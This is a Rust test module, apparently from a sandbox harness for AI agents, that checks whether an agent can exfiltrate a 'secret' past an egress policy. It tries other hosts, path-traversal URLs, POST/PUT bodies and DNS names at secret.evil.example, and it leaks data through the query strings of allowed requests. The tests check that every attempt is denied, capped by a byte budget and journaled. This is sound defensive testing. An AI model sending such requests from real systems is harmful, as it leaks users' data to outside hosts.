//! What an agent knows, sent away through a host that it may ask. That nothing leaks is not promised: to whom, how much, and
//! that it can be read afterwards, is.

use std::sync::Arc;

use baton_egress::{Egress, Options};
use baton_journal::{Event, Limit};
use baton_policy::{Bytes, Limits};
use serde_json::{Value, json};

use super::names::Names;
use super::world::{get, http};
use crate::attacks::{Arena, Attack, Verdict};
use crate::{Bench, Call, Server, guest};

pub(in crate::attacks) const ATTACK: Attack = Attack { row: 42, name: "exfiltration through an allowed host", run };

/// What is carried away, in portions of a KiB.
const PORTION: usize = 1 << 10;

/// Most bytes of the invocation.
const BUDGET: usize = 64 << 10;

fn run(arena: &Arena) -> Verdict {
    let names = Arc::new(Names::default());
    let options = Options { resolver: Arc::clone(&names) as _, ..Options::default() };
    let bench = arena.bench().with(|backends| backends.egress = Arc::new(Egress::new(&options).unwrap()));
    let elsewhere = elsewhere(arena, &bench);
    assert_eq!(names.asked(), Vec::<String>::new(), "a name was looked up: that is a message too");
    elsewhere.and(much(arena, &bench))
}

fn call(server: &Server, requests: &[Value]) -> Call {
    let grants = http(&[format!("GET {}", server.url("/v1/*"))]);
    Call { grants, input: json!(requests).to_string(), ..Call::default() }
}

/// To another host, by another method, to another path, and in the name of a host.
fn elsewhere(arena: &Arena, bench: &Bench) -> Verdict {
    let (server, other) = (Server::telling("ok"), Server::telling("ok"));
    let requests = [
        get(&other.url("/v1/x?secret")),
        get(&server.url("/v2/x?secret")),
        get(&server.url("/v1?secret")),
        get(&server.url("/v1/../v2/x?secret")),
        get(&server.url("/v1/%2e%2e/v2/x?secret")),
        get("http://secret.evil.example/v1/x"),
        get("https://secret.evil.example/"),
        json!({ "method": "POST", "url": server.url("/v1/x"), "body": "secret" }),
        json!({ "method": "PUT", "url": server.url("/v1/x"), "body": "secret" }),
    ];
    let told = arena.call_on(bench, &bench.load(&guest("fetches")), call(&server, &requests)).completed();
    for (request, told) in requests.iter().zip(told.as_array().unwrap()) {
        assert!(told["err"].is_string(), "{request}: {told}");
    }
    assert_eq!((server.requests().len(), other.requests().len()), (0, 0), "one was sent");
    Verdict::contained("denied elsewhere", told[0]["err"].as_str().unwrap())
}

/// As much as fits into queries of requests that are allowed: it ends with the budget, and the journal has all of it.
fn much(arena: &Arena, bench: &Bench) -> Verdict {
    let server = Server::telling("ok");
    let url = |number: usize| server.url(&format!("/v1/x?{number}-{}", "s".repeat(PORTION)));
    let requests: Vec<Value> = (0..200).map(|number| get(&url(number))).collect();
    let limits = Limits { bytes: Bytes(BUDGET as u64), ..Limits::default() };
    let call = Call { limits, attempt: 2, ..call(&server, &requests) };
    let ended = arena.call_on(bench, &bench.load(&guest("fetches")), call).exhausted(Limit::Bytes);
    let sent = server.requests();
    assert!((1..=BUDGET / PORTION).contains(&sent.len()), "{} portions were sent", sent.len());
    assert_told(arena, bench, &(0..sent.len()).map(url).collect::<Vec<_>>());
    ended
}

/// Every request that was sent is in the journal, as it was sent.
fn assert_told(arena: &Arena, bench: &Bench, sent: &[String]) {
    let entries = arena.block_on(bench.entries());
    let requests = entries.iter().filter_map(|entry| match &entry.event {
        Event::HostCall { .. } => Some(serde_json::to_string(&entry.event).unwrap()),
        _ => None,
    });
    let told: String = requests.collect();
    assert!(sent.iter().all(|url| told.contains(url)), "the journal lacks a request");
}
